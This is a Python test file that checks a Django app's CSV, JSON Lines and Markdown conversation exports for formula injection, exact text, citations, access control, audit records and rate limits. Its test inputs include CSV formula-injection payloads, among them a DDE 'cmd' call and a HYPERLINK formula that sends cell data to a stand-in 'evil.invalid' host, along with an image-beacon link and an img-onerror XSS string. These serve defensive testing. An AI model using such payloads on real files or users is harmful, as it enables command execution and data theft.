"""CSV that no spreadsheet executes, JSON Lines that are exact, and Markdown that keeps its sources."""

import csv
import io
import re
from collections.abc import Sequence
from datetime import UTC, datetime
from typing import Any

import orjson
import pytest
from django.test import Client

from accounts.models import AuditEvent, User
from accounts.tests.cast import Cast
from conversations.exports_files import CsvSheet, JsonLinesSheet
from conversations.models import Conversation
from conversations.tests.exporting import taken
from conversations.tests.factories import QUOTE, add, begin, citation

DANGEROUS = (
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\0=1",
    " =1",
    "   -2+3",
    "\u00a0=1",
    "\u200b=1",
    "\ufeff=1",
    "\u202e=1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(A1)",
    " \uff1d1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.invalid/?"&A1)',
    "\tword",
    "\rword",
    "\0word",
)
UNSEEN = re.compile("[\\s\u0000-\u001f\u007f-\u00a0\u00ad\u200b-\u200f\u2028-\u202e\u2060-\u2064\ufeff]*")
TRIGGERS = "=+-@\t\r\0\uff1d\uff0b\uff0d\uff20"


def written(columns: Sequence[str], *rows: dict[str, Any]) -> bytes:
    """Return rows as the bytes of a CSV file."""
    out = io.BytesIO()
    sheet = CsvSheet(out, columns)
    for row in rows:
        sheet.add(row)
    return out.getvalue()


def parsed(data: bytes, delimiter: str = ",") -> list[list[str]]:
    """Return the cells as a reader of CSV sees them."""
    return list(csv.reader(io.StringIO(data.decode(), newline=""), delimiter=delimiter))


class TestCsv:
    def test_has_24_dangerous_cells_to_stand(self) -> None:
        assert len(set(DANGEROUS)) == 24

    @pytest.mark.parametrize("text", DANGEROUS)
    def test_no_cell_begins_a_formula(self, text: str) -> None:
        (_, (cell,)) = parsed(written(["text"], {"text": text}))
        assert (cell[0], cell.replace("'", "")) == ("'", text.replace("'", ""))
        assert UNSEEN.sub("", cell, count=1)[:1] not in TRIGGERS

    @pytest.mark.parametrize(
        "text", ["Hello", "a = b", "1-2", "“=quoted”", "", "mail@school.example", "- no"[2:]]
    )
    def test_what_is_harmless_stays_as_it_is(self, text: str) -> None:
        assert parsed(written(["text"], {"text": text}))[1] == [text]

    @pytest.mark.parametrize("text", ["x;=1+1", 'a";=1+1;"', "x;  @SUM(A1)", "x\t=1"])
    def test_no_cell_begins_a_formula_where_a_spreadsheet_splits_at_semicolons(self, text: str) -> None:
        for row in parsed(written(["a", "text"], {"a": "first", "text": text}), delimiter=";"):
            for cell in row:
                assert UNSEEN.sub("", cell, count=1)[:1] not in {*TRIGGERS} - {""}

    def test_a_list_is_as_harmless_as_a_text(self) -> None:
        row = {"tags": ["a", "=1+1"], "sources": [{"number": "[1]", "title": "=T", "page": ""}]}
        assert parsed(written(["tags", "sources"], row))[1] == ["a;' =1+1", "[1], =T"]

    def test_follows_rfc_4180(self) -> None:
        row = {
            "text": 'He said "a, b"\nand left',
            "count": 3,
            "at": datetime(2026, 3, 1, tzinfo=UTC),
            "no": None,
        }
        data = written(["text", "count", "at", "no"], row)
        assert data == (
            b'"text","count","at","no"\r\n"He said ""a, b""\nand left",3,"2026-03-01T00:00:00+00:00",""\r\n'
        )

    def test_is_utf_8(self) -> None:
        assert "Grüße 🎓".encode() in written(["text"], {"text": "Grüße 🎓"})


class TestJsonLines:
    @pytest.mark.parametrize("text", DANGEROUS)
    def test_keep_every_text_as_it_was_written(self, text: str) -> None:
        out = io.BytesIO()
        sheet = JsonLinesSheet(out, ["text"])
        sheet.add({"text": text, "left_out": "x"})
        (line,) = out.getvalue().splitlines()
        assert orjson.loads(line) == {"text": text}
        assert (sheet.rows, sheet.size) == (1, len(out.getvalue()))


@pytest.mark.django_db
class TestMarkdown:
    @pytest.fixture
    def conversation(self, owner: User) -> Conversation:
        """Return a conversation with two cited answers."""
        conversation = begin(owner)
        Conversation.objects.filter(pk=conversation.pk).update(title="How we review")
        add(conversation, "How often? [1] [^1]", by="client", sender=owner)
        add(conversation, "Every six weeks [1], says the book [7].", citations=[citation()])
        add(
            conversation,
            "The lead [2] and [a link](https://x.example).",
            citations=[citation(2, title="Agenda", quote="", label="unsupported")],
        )
        return conversation

    def fetch(self, member: User, conversation: Conversation) -> Any:
        client = Client()
        client.force_login(member)
        return taken(client.get(f"/conversations/{conversation.pk}/markdown/"))

    def test_has_every_citation_as_a_footnote(self, owner: User, conversation: Conversation) -> None:
        response = self.fetch(owner, conversation)
        text = response.getvalue().decode()
        assert response.headers["Content-Disposition"] == 'attachment; filename="how-we-review.md"'
        assert text.startswith("# How we review\n\nBegun on ")
        assert "Every six weeks[^1]" in text.replace(" [^1]", "[^1]")
        assert f"[^1]: The handbook, R. Lane, 2024, Norms, page 12. “{QUOTE}” (Quoted)" in text
        assert "[^2]: Agenda, R. Lane, 2024, Norms, page 12. (Not found in the source)" in text
        assert "says the book ." in text
        assert "[a link](https://x.example)" in text

    def test_leaves_the_clients_words_alone(self, owner: User, conversation: Conversation) -> None:
        text = self.fetch(owner, conversation).getvalue().decode()
        assert "How often? [1] \\[^1]" in text

    def test_holds_nothing_that_a_viewer_would_load_or_run(
        self, owner: User, conversation: Conversation
    ) -> None:
        add(conversation, "![x](https://evil.invalid/?d=1) <img src=x onerror=alert(1)> <!-- -->")
        text = self.fetch(owner, conversation).getvalue().decode()
        assert "![" not in text
        assert "<img" not in text
        assert "<!--" not in text

    def test_is_on_record_and_for_the_owner_alone(self, cast: Cast, conversation: Conversation) -> None:
        for member in (cast.home.coach, cast.home.admin, cast.away.owner):
            assert self.fetch(member, conversation).status_code == 404
        assert not AuditEvent.objects.filter(action="conversation.exported").exists()
        self.fetch(cast.home.owner, conversation)
        (event,) = AuditEvent.objects.filter(action="conversation.exported")
        assert (event.actor_id, event.resource) == (cast.home.owner.pk, f"conversation:{conversation.pk}")

    def test_counts_as_an_export_and_the_page_says_when_the_next_is_possible(
        self, cast: Cast, conversation: Conversation, settings: Any
    ) -> None:
        settings.QUOTAS = {
            **settings.QUOTAS,
            "educator": {**settings.QUOTAS["educator"], "exports": "1/day"},
        }
        foreign = begin(cast.home.coach)
        assert self.fetch(cast.home.owner, foreign).status_code == 404
        assert self.fetch(cast.home.owner, conversation).status_code == 200
        refused = self.fetch(cast.home.owner, conversation)
        assert (refused.status_code, refused["RateLimit-Policy"]) == (429, '"exports";q=1;w=86400')
        assert "You can begin the next in 24 hours." in refused.content.decode()
        assert "Content-Disposition" not in refused
        assert AuditEvent.objects.filter(action="conversation.exported").count() == 1

    def test_is_offered_in_the_menu_of_the_chat(self, owner: User, conversation: Conversation) -> None:
        client = Client()
        client.force_login(owner)
        page = client.get(f"/conversations/{conversation.pk}/").content.decode()
        assert f'href="/conversations/{conversation.pk}/markdown/"' in page
